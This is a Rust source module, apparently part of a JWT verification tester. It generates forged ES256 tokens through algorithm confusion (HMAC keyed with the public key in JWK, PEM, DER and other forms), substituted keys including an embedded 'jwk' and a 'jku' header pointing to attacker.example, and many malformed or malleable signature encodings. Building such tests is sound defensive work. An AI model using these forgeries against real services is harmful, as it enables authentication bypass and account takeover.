//! Other algorithms, other keys, and other spellings of a signature.

use super::Attack;
use super::forger::{Forger, message, negate_s, url};
use base64ct::{Base64, Encoding};
use hmac::{Hmac, KeyInit, Mac};
use ring::rand::SystemRandom;
use ring::signature::{
    ECDSA_P384_SHA384_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, RSA_PKCS1_SHA256, RsaKeyPair,
};
use sha2::{Digest, Sha256};

/// The header with another algorithm.
fn header(forger: &Forger, alg: &str) -> String {
    forger.header.replace("ES256", alg)
}

/// The public key in the forms that a verifier may have it in, as the secret of an HMAC.
fn public_forms(forger: &Forger) -> Vec<(&'static str, Vec<u8>)> {
    const SPKI_START: [u8; 26] = [
        0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08,
        0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
    ];
    let mut public = forger.jwk.clone();
    public.as_object_mut().expect("a JWK").remove("d");
    let der = [&SPKI_START[..], &forger.point()].concat();
    let base64 = Base64::encode_string(&der);
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n{}\n-----END PUBLIC KEY-----\n",
        &base64[..64],
        &base64[64..]
    );
    vec![
        ("JWK", public.to_string().into_bytes()),
        ("JWK Set", format!(r#"{{"keys":[{public}]}}"#).into_bytes()),
        ("PEM", pem.clone().into_bytes()),
        ("PEM without a last line break", pem.trim_end().into()),
        ("DER", der),
        ("point", forger.point()),
        ("x", forger.number("x")),
        ("x in base64url", url(&forger.number("x")).into_bytes()),
        ("x and y", forger.point()[1..].to_vec()),
        ("kid", forger.kid().into()),
        ("nothing", Vec::new()),
    ]
}

pub(super) fn algorithms(forger: &Forger) -> Vec<Attack> {
    let mut found = Vec::new();
    for (form, secret) in public_forms(forger) {
        for header in [header(forger, "HS256"), forger.header.clone()] {
            let signed = message(&header, &forger.claims);
            let mut mac = Hmac::<Sha256>::new_from_slice(&secret).expect("any length");
            mac.update(signed.as_bytes());
            let tag = url(&mac.finalize().into_bytes());
            found.push((
                format!("HMAC with the public key ({form}) under {header}"),
                format!("{signed}.{tag}"),
            ));
        }
    }
    let random = SystemRandom::new();
    let rsa = RsaKeyPair::from_pkcs8(include_bytes!("../rsa_2048.pk8")).expect("a key");
    let p384 = EcdsaKeyPair::generate_pkcs8(&ECDSA_P384_SHA384_FIXED_SIGNING, &random);
    let p384 = p384.expect("a key");
    let algorithm = &ECDSA_P384_SHA384_FIXED_SIGNING;
    let p384 = EcdsaKeyPair::from_pkcs8(algorithm, p384.as_ref(), &random).expect("a key");
    let ed25519 = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).expect("a key");
    for alg in ["ES256", "RS256", "ES384", "EdDSA"] {
        let signed = message(&header(forger, alg), &forger.claims);
        let bytes = signed.as_bytes();
        let mut of_rsa = vec![0; rsa.public().modulus_len()];
        rsa.sign(&RSA_PKCS1_SHA256, &random, bytes, &mut of_rsa)
            .expect("a signature");
        let of_p384 = p384.sign(&random, bytes).expect("a signature");
        for (name, signature) in [
            ("RSA", of_rsa),
            ("P-384", of_p384.as_ref().to_vec()),
            ("P-384, cut off", of_p384.as_ref()[..64].to_vec()),
            ("Ed25519", ed25519.sign(bytes).as_ref().to_vec()),
            ("a hash", Sha256::digest(bytes).to_vec()),
        ] {
            let token = format!("{signed}.{}", url(&signature));
            found.push((format!("{alg} with a signature of {name}"), token));
        }
    }
    found
}

/// Another key, under its own id and under that of the genuine key.
pub(super) fn keys(forger: &Forger, other: &str) -> Vec<Attack> {
    let other = Forger::new(other, &forger.genuine);
    let own_id = forger.header.replace(forger.kid(), other.kid());
    let public = format!(
        r#"{{"kty":"EC","crv":"P-256","x":{},"y":{}}}"#,
        other.jwk["x"], other.jwk["y"]
    );
    let more = |member: &str| forger.header.replace('}', &format!(",{member}}}"));
    [
        ("another key under our id", forger.header.clone()),
        ("another key under its id", own_id),
        (
            "another key in the header",
            more(&format!(r#""jwk":{public}"#)),
        ),
        (
            "another key at a URL",
            more(r#""jku":"https://attacker.example/jwks.json""#),
        ),
    ]
    .map(|(name, header)| (name.to_owned(), other.token(&header, &forger.claims)))
    .into()
}

/// Other spellings of a valid signature, and signatures that are valid for no message.
pub(super) fn encodings(forger: &Forger) -> Vec<Attack> {
    let (signed, _) = forger.genuine.rsplit_once('.').expect("a signature");
    let genuine = forger.signature(signed);
    let (r, s) = genuine.split_at(32);
    let mut negated = genuine.clone();
    negate_s(&mut negated);
    let zero = [0; 32];
    let der = forger.der(signed);
    [
        ("DER", der.clone()),
        ("DER and a byte", [&der[..], &[0]].concat()),
        (
            "DER, padded to 64 bytes",
            [&der[..], &[0; 64]].concat()[..72].to_vec(),
        ),
        ("DER without its frame", der[4..].to_vec()),
        ("s negated", negated),
        ("r and s exchanged", [s, r].concat()),
        ("one more byte at the end", [r, s, &[0]].concat()),
        ("one more byte at the start", [&[0], r, s].concat()),
        ("leading zeros", [&[0], r, &[0], s].concat()),
        ("without its last byte", genuine[..63].to_vec()),
        ("without its first byte", genuine[1..].to_vec()),
        ("r only", r.to_vec()),
        ("twice", [r, s, r, s].concat()),
        ("r zero", [&zero, s].concat()),
        ("s zero", [r, &zero].concat()),
        ("zeros", vec![0; 64]),
        ("ones", vec![0xff; 64]),
        (
            "in hexadecimal",
            base16ct::lower::encode_string(&genuine).into_bytes(),
        ),
        ("empty", Vec::new()),
    ]
    .map(|(name, signature)| {
        (
            format!("signature {name}"),
            forger.with_signature(&signature),
        )
    })
    .into()
}
